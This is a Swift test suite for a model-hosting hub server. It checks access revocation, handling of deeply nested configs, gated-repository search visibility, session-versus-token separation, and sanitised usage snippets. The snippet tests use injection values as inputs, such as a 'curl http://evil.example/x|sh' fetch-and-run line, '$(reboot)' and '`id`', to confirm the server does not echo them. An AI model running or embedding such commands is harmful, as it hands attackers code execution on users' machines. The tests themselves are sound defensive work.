import Files
import Foundation
import HTTPTypes
import HubClient
import HummingbirdTesting
import Testing

@testable import HubServer

private let page: HTTPFields = [.accept: "text/html"]

@Suite struct `A right that was taken` {
  @Test func `takes the links with it that it made`() async throws {
    let hub = try await TestHub()
    let registry = hub.core.registry
    let bob = try await registry.account("bob")
    try await registry.setAdministrator(true, of: "alice", by: "test")
    let reset = try await registry.makeLink(.reset, account: bob, role: nil, days: 1, by: "alice")
    let team = try await registry.makeAccount("team", kind: .organisation, by: "test")
    for name in ["admin", "bob"] {
      try await registry.setRole(.admin, of: name, in: "team", by: "test")
    }
    let invitation = try await registry.makeLink(
      .organisation, account: team, role: .admin, days: 30, by: "bob")
    #expect(try await registry.link(reset) != nil)
    #expect(try await registry.link(invitation) != nil)

    try await registry.setAdministrator(false, of: "alice", by: "test")
    try await registry.setRole(nil, of: "bob", in: "team", by: "test")
    #expect(try await registry.link(reset) == nil)
    #expect(try await registry.link(invitation) == nil)
    await #expect(throws: Problem.self) { try await registry.resetPassword("x", link: reset) }
    await #expect(throws: Problem.self) {
      try await registry.acceptInvitation(invitation, by: bob)
    }
  }

  @Test func `takes the lists from a token of one repository`() async throws {
    let hub = try await TestHub()
    let registry = hub.core.registry
    let team = try await registry.makeAccount("team", kind: .organisation, by: "test")
    try await registry.setRole(.read, of: "bob", in: "team", by: "test")
    let alice = try await registry.account("alice")
    let secret = try await registry.makeRepository(
      "secret", owner: team, creator: alice, isPrivate: true)
    let token = try await registry.makeToken(
      for: "bob", name: "t", scope: .read, repository: secret.id, expiresAt: nil, by: "test")
    try await hub.serve { call in
      try await call.commit(
        ["adapter_config.json": "{}", "README.md": "---\nbase_model: hidden-base\n---\n# S"],
        to: "team/secret", as: "admin")
      let before = try await call(.get, "/api/models?author=team", as: token)
      #expect(before.json.elements.count == 1)
      #expect(
        try await call(.get, "/explore", as: token, headers: page).text.contains("hidden-base"))
      try await registry.setRole(nil, of: "bob", in: "team", by: "test")
      let after = try await call(.get, "/api/models?author=team", as: token)
      #expect(after.json.elements.isEmpty)
      for path in ["/explore", "/base", "/base/hidden-base", "/"] {
        let text = try await call(.get, path, as: token, headers: page).text
        #expect(!text.contains("team/secret") && !text.contains("value=\"hidden-base\""), "\(path)")
      }
    }
  }
}

@Suite struct `A description that nests deep` {
  @Test(arguments: [100, 120, 124, 125, 126, 127, 128, 129, 200])
  func `takes no list with it`(_ depth: Int) async throws {
    let hub = try await TestHub()
    // As the command's own inspection does: the configuration is kept as it is.
    let deep =
      String(repeating: #"{"a":"#, count: depth) + "1" + String(repeating: "}", count: depth)
    try await hub.serve { call in
      try await call.create("fine")
      try await call.create("deep")
      let answer = try await call(
        .post, "/api/models/alice/deep/commit/main",
        body: commitLines(["adapter_config.json": #"{"peft_type": "LORA", "x": \#(deep)}"#]))
      #expect(answer.status == .ok)
      for path in ["/api/models", "/api/models/alice/deep"] {
        #expect(try await call(.get, path, as: nil).status == .ok, "\(path)")
      }
      for path in ["/alice", "/alice/deep", "/compare?ids=alice/deep", "/explore", "/"] {
        #expect(try await call(.get, path, as: nil, headers: page).status == .ok, "\(path)")
      }
    }
  }

  @Test func `is kept without what could not be read again`() throws {
    var deep: JSON = 1
    for _ in 0..<128 { deep = ["a": deep] }
    var description = Description()
    description.facts = ["name": "x", "configuration": deep, "problems": ["one"]]
    description.keepReadable()
    let isEmpty = description.facts?["configuration"] == [:]
    #expect(isEmpty)
    #expect(description.facts?["problems"]?.list.count == 2)
  }
}

@Suite struct `A snippet` {
  @Test(arguments: [
    "bert; curl http://evil.example/x|sh #", "x\")\nimport os", "$(reboot)", "a'b", "a b", "`id`",
  ])
  func `repeats no base model that is none`(_ base: String) throws {
    for library in AdapterFacts.Library.allCases {
      let facts = AdapterFacts(library: library, name: "a", method: "lora", baseModel: base)
      for snippet in usageSnippets(facts, try RepositoryIdentifier("alice/a")) {
        #expect(!snippet.code.contains(base))
        #expect(snippet.code.contains("BASE-MODEL") || snippet.code.contains("pull"))
      }
    }
  }

  @Test func `names the base model that is one`() throws {
    let facts = AdapterFacts(
      library: .adapters, name: "a", method: "lora", baseModel: "bert-base-uncased")
    let snippets = usageSnippets(facts, try RepositoryIdentifier("alice/a"))
    #expect(snippets.contains { $0.code.contains("--model bert-base-uncased ") })
  }
}

@Suite struct `The card of a gated repository` {
  @Test func `is found by nobody while it is gated`() async throws {
    let hub = try await TestHub()
    try await hub.serve { call in
      try await call.create("g")
      try await call.commit(
        ["adapter_config.json": "{}", "README.md": "# G\n\nThe quuxsecret sentence."], to: "alice/g"
      )
      func finds() async throws -> Bool {
        let text = try await call(.get, "/explore?q=quux", as: nil, headers: page).text
        let all = try await call(.get, "/explore", as: nil, headers: page).text
        let listed = try await call(.get, "/api/models?search=quux", as: nil).json.elements
        #expect(text.contains("alice/g") == !listed.isEmpty)
        #expect(all.contains("quuxsecret") == !listed.isEmpty)
        return !listed.isEmpty
      }
      #expect(try await finds())
      _ = try await call(.put, "/api/models/alice/g/settings", body: #"{"gated": "manual"}"#)
      #expect(try await finds() == false)
      try await call.commit(["README.md": "# G\n\nAnother quuxsecret."], to: "alice/g")
      #expect(try await finds() == false)
      _ = try await call(.put, "/api/models/alice/g/settings", body: #"{"gated": false}"#)
      #expect(try await finds())
    }
  }
}

@Suite struct `The secret of a session` {
  @Test func `is no token`() async throws {
    let hub = try await TestHub()
    let registry = hub.core.registry
    let alice = try await registry.account("alice")
    let secret = try await registry.makeSession(for: alice, client: "b", address: "::1")
    #expect(try await registry.caller(session: secret)?.account == alice)
    #expect(try await registry.caller(token: secret) == nil)
    try await hub.serve { call in
      let answer = try await call(.get, "/api/whoami-v2", as: secret)
      #expect(answer.status == .unauthorized)
    }
  }
}
